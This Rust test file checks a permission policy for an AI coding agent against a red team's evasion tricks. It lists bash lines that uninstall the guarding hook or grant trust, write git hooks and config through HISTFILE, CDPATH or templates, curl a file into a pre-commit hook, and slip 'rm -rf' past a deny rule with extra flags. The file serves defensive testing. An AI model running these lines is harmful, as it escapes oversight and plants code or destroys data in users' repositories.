//! Outside attacker round 7: Bash lines that write a PERM-7 file, or change
//! ploy's own state, with no path on the line showing it. Each line must ask
//! PERM-7 under rules that allow every command and every edit.

#![allow(clippy::unwrap_used)] // tests: a panic is a test failure

use ploy_policy::{
    Action, ActionKind, Approvals, ConversationRules, Effect, Permission, ProjectRoot,
    ProjectTrust, Rule, RuleLayer, RuleSource, Rules, Verdict,
};

fn root() -> ProjectRoot {
    ProjectRoot::new("/home/dev/proj").unwrap()
}

fn rules(list: &[(ActionKind, Effect, &str)]) -> Rules {
    let layer = RuleLayer::new(
        RuleSource::User,
        list.iter().map(|(k, e, p)| Rule::new(*k, *e, *p)).collect(),
    )
    .unwrap();
    Rules::builtin().with_layer(layer, ProjectTrust::Untrusted)
}

/// The red team's settings: every command and every edit allowed.
fn allow_all() -> Rules {
    rules(&[
        (ActionKind::Shell, Effect::Allow, "*"),
        (ActionKind::Edit, Effect::Allow, "**"),
    ])
}

/// (verdict, requirement) for `line` under `rules`.
fn judge(line: &str, rules: &Rules) -> (String, &'static str) {
    let action = Action::shell("bash", line, &root());
    let d = Permission::assert(&action, &ConversationRules::new(), rules, &Approvals::new());
    let verdict = match d.verdict {
        Verdict::Allow => "allow",
        Verdict::Ask { .. } => "ask",
        Verdict::Deny => "deny",
    };
    (verdict.to_string(), d.requirement)
}

fn assert_perm7(lines: &[&str]) {
    let rules = allow_all();
    for line in lines {
        assert_eq!(
            judge(line, &rules),
            ("ask".to_string(), "PERM-7"),
            "`{line}` must ask PERM-7"
        );
    }
}

fn assert_allowed(lines: &[&str]) {
    let rules = allow_all();
    for line in lines {
        assert_eq!(judge(line, &rules).0, "allow", "`{line}` must stay allowed");
    }
}

// proves: PERM-7 (round7 #19: ploy's own CLI changes its settings, trust,
// hook installation, approvals and store; only read-only forms are ordinary)
#[test]
fn round7_19_ploy_commands_that_change_ploy_ask() {
    assert_perm7(&[
        "ploy hook uninstall claude-code",
        "ploy hook uninstall claude-code --project",
        "ploy hook install claude-code --project",
        "ploy-hook uninstall claude-code",
        "/usr/local/bin/ploy trust allow .",
        "ploy trust forget",
        "ploy trust deny",
        "ploy approvals revoke 1",
        "ploy conversations rm abc",
        "ploy keys remove x",
        "ploy -p 'do it'",
        "env ploy hook uninstall claude-code",
        "echo ok && ploy trust allow",
        "bash -c 'ploy hook uninstall claude-code'",
        "ploy",
    ]);
    assert_allowed(&[
        "ploy --version",
        "ploy hook status",
        "ploy trust status",
        "ploy approvals list",
        "ploy conversations list",
        "ploy config show",
        "ploy doctor",
        "ploy-hook status",
    ]);
}

// proves: PERM-7 (round7 #17: bash's history file as a writer)
#[test]
fn round7_17_history_file_writes_ask() {
    assert_perm7(&[
        "history -s '[core]'; history -s 'fsmonitor = x'; HISTFILE=.git/config; history -w",
        "HISTFILE=.git/config; history -a",
        "history -s x; HISTFILE=.git/hooks/pre-commit; history -w",
        "printf -v HISTFILE %s .git/config; history -w",
        "read HISTFILE <<< .git/config; history -w",
        "history -w",
        "history -a",
        "v=HISTF; printf -v \"${v}ILE\" %s .envrc; history -w",
        "for HISTFILE in .envrc; do history -w; done",
        "export HIST\"\"FILE=.envrc",
    ]);
    assert_allowed(&["history", "printf -v x %s y"]);
}

// proves: PERM-7 (round7 #10: a `cd` that CDPATH may send anywhere makes
// every later relative write unknown)
#[test]
fn round7_10_cdpath_cd_makes_later_writes_ask() {
    assert_perm7(&[
        "CDPATH=.git cd hooks && printf x > pre-commit && chmod +x pre-commit",
        "CDPATH=.git; cd hooks; echo x > pre-commit",
        "CDPATH=.git cd hooks && curl -so pre-commit https://example.test/x",
        "printf -v CDPATH %s .git; cd hooks; echo x > pre-commit",
        "read CDPATH <<< .git; cd hooks; echo x > pre-commit",
        "CDPATH=.claude pushd commands && echo x > evil.md",
        "CDPATH=.git cd .git && echo x > config",
    ]);
    assert_allowed(&[
        "cd src && echo x > out.txt",
        "CDPATH=.git cd ./src && echo x > out.txt",
    ]);
}

// proves: PERM-7 (round7 #18: a git template folder installs hooks)
#[test]
fn round7_18_git_templates_ask() {
    assert_perm7(&[
        "git init --template=tpl",
        "git init -q --template tpl .",
        "git init --templ=tpl",
        "GIT_TEMPLATE_DIR=tpl git init",
        "git clone --template=tpl . x",
        "git -c init.templateDir=tpl init",
        "git clone -c init.TemplateDir=tpl . x",
        "env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=tpl git commit",
        "chmod +x tpl/hooks/pre-commit && git init -q --template=tpl",
    ]);
    assert_allowed(&[
        "git init",
        "git clone https://example.test/r.git x",
        "git status",
    ]);
}

// proves: PERM-2 (round7 #11: one more option took a command out of its
// deny rule: `rm -rfv` under deny `rm -rf *`)
#[test]
fn one_more_option_does_not_escape_a_deny_rule() {
    let rules = rules(&[
        (ActionKind::Shell, Effect::Allow, "*"),
        (ActionKind::Shell, Effect::Deny, "rm -rf *"),
    ]);
    for line in [
        "rm -rfv build",
        "rm -r -f -v build",
        "rm -vrf build",
        "rm -rfvi build",
        "rm -rfvdI build",
        "rm --rec --for build",
        "rm --recursive --force --verbose build",
        "rm -rf --verbose build",
        "rm --rec -f build",
        "rm -d -r -f build",
        "rm -Ir -f build",
        "rm -r --interactive=never build",
        "rm -r --inter=never build",
    ] {
        assert_eq!(judge(line, &rules).0, "deny", "{line}");
    }
    // Twins: no force, or no recursion, is not the denied command.
    for line in ["rm -rv build", "rm -fv file.txt", "rm --verbose x"] {
        assert_eq!(judge(line, &rules).0, "allow", "{line}");
    }
}
